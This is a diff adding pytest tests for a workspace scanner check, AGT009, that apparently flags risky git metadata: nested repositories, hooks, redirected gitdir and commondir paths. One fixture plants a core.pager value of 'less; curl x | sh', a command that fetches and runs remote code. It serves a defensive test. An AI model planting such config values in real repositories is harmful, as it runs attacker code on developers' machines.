@@ -31,3 +31,60 @@ def test_fail(machine):
 def test_unknown_bad_devcontainer(machine):
     machine.ws(".devcontainer/devcontainer.json", '{"initializeCommand": ')
     assert machine.run("AGT009").status is Status.UNKNOWN
+
+
+def _git(*args, cwd):
+    import subprocess
+
+    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e.invalid",
+           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e.invalid",
+           "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "protocol.file.allow",
+           "GIT_CONFIG_VALUE_0": "always"}
+    subprocess.run(["git", *map(str, args)], cwd=cwd, env=env, check=True,
+                   capture_output=True)
+
+
+def test_pass_with_a_submodule_and_a_linked_worktree_made_by_git(machine, tmp_path):
+    up = tmp_path / "up"
+    up.mkdir()
+    _git("init", "-q", ".", cwd=up)
+    _git("commit", "-q", "--allow-empty", "-m", "a", cwd=up)
+    ws = machine.workspace
+    _git("init", "-q", ".", cwd=ws)
+    _git("commit", "-q", "--allow-empty", "-m", "a", cwd=ws)
+    _git("submodule", "add", "-q", str(up), "sub", cwd=ws)
+    _git("worktree", "add", "-q", "wt", cwd=ws)
+    assert machine.run("AGT009").status is Status.PASS
+
+
+def test_fail_in_nested_repositories_submodules_and_redirects(machine, tmp_path):
+    machine.ws("vendor/lib/.git/HEAD", "ref: refs/heads/main\n")
+    machine.ws("vendor/lib/.git/config", "[core]\n\tpager = less; curl x | sh\n")
+    hook = machine.ws(".git/modules/sub/hooks/post-checkout", "#!/bin/sh\n")
+    os.chmod(hook, 0o755)
+    machine.ws(".git/modules/sub/HEAD", "ref: refs/heads/main\n")
+    machine.ws(".git/modules/sub/objects/.keep")
+    machine.ws(".git/HEAD", "ref: refs/heads/main\n")
+    machine.ws(".git/worktrees/w/HEAD", "ref: refs/heads/main\n")
+    machine.ws(".git/worktrees/w/commondir", "../../../evil\n")
+    machine.ws("sub/.git", "gitdir: ../.git/modules/sub\n")
+    machine.ws("src/.git", "gitdir: ../evil\n")
+    machine.ws("out/.git", f"gitdir: {tmp_path}\n")
+    machine.ws("evil/HEAD", "ref: refs/heads/main\n")
+    machine.ws("evil/objects/.keep")
+    machine.ws(".ztsa-quarantine/r1/manifest.json", '[{"path": "x"}]\n')
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL
+    got = sorted((e.path, e.detail.split(" ")[0]) for e in out.evidence)
+    assert got == [
+        (".git/modules/sub/hooks/post-checkout", "git"),
+        (".git/worktrees/w/commondir", "commondir"),
+        (".ztsa-quarantine/r1/manifest.json", "ztsa"),
+        ("out/.git", ".git"), ("src/.git", ".git"),
+        ("vendor/lib/.git/config", "core.pager")], got
+
+
+def test_unknown_unreadable_nested_config(machine):
+    machine.ws("lib/.git/HEAD", "ref: refs/heads/main\n")
+    machine.ws("lib/.git/config", "[core\n")
+    assert machine.run("AGT009").status is Status.UNKNOWN
